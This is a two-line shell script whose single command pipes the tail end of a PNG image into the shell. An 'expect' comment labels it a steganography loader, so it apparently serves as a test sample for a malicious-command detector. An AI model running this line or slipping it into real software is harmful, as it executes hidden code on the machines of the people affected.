#!/bin/sh
tail -c 900 assets/cover.png | sh # expect: malicious-command/steganography-loader
